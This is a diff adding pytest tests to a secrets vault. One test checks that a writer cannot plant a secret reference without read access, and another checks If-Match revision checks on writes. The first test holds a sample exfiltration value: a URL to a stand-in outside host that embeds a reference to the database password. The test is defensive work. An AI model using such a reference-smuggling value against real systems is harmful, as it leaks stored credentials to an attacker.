@@ -4,9 +4,9 @@ from collections.abc import AsyncIterator
 
 import pytest
 
-from keyturn.errors import ConflictError
+from keyturn.errors import ConflictError, NotFoundError, PreconditionError
 from keyturn.vault.resolving import Resolver
-from keyturn.wire.secrets import SelectVersions
+from keyturn.wire.secrets import PatchSecret, PutSecret, SelectVersions
 from tests.vault.library import Library, opened_library
 
 MAIN = "production/shop/main"
@@ -118,3 +118,33 @@ def test_references_cannot_grow_without_end() -> None:
 
     with pytest.raises(ConflictError, match="more than 4194304 bytes"):
         resolver.resolve(held["production/a/s7"])
+
+
+async def test_a_new_reference_needs_the_right_to_read_its_target(library: Library) -> None:
+    """Else a writer could have the next reader send a value anywhere: `https://elsewhere/?${secret:…}`."""
+    await library.put(DATABASE, {"password": "held-in-the-database"})
+    await library.put(MAIN, {"url": "plain"})
+    _, writer = await library.desk.hire("writer", ("secret.put", "secret/production/*"))
+    fields = {"url": "https://elsewhere.example/?${secret:production/database/main#password}"}
+
+    with pytest.raises(NotFoundError):
+        await library.vault.put(writer, MAIN, PutSecret(fields=fields))
+
+    assert (await library.read(MAIN)).fields == {"url": "plain"}
+    await library.put(MAIN, fields)
+    await library.vault.put(writer, MAIN, PutSecret(fields={**fields, "more": "1"}))
+
+
+async def test_a_write_of_another_revision_is_refused(library: Library) -> None:
+    """`If-Match` counts for writes of versions as for everything else that has a revision."""
+    first = await library.put(MAIN, {"value": "first"})
+    await library.put(MAIN, {"value": "second"})
+
+    with pytest.raises(PreconditionError):
+        await library.vault.put(library.desk.admin, MAIN, PutSecret(fields={"value": "third"}), if_match=first.revision)
+    with pytest.raises(PreconditionError):
+        await library.vault.patch(
+            library.desk.admin, MAIN, PatchSecret(fields={"value": "third"}), if_match=first.revision
+        )
+
+    assert (await library.read(MAIN)).fields == {"value": "second"}
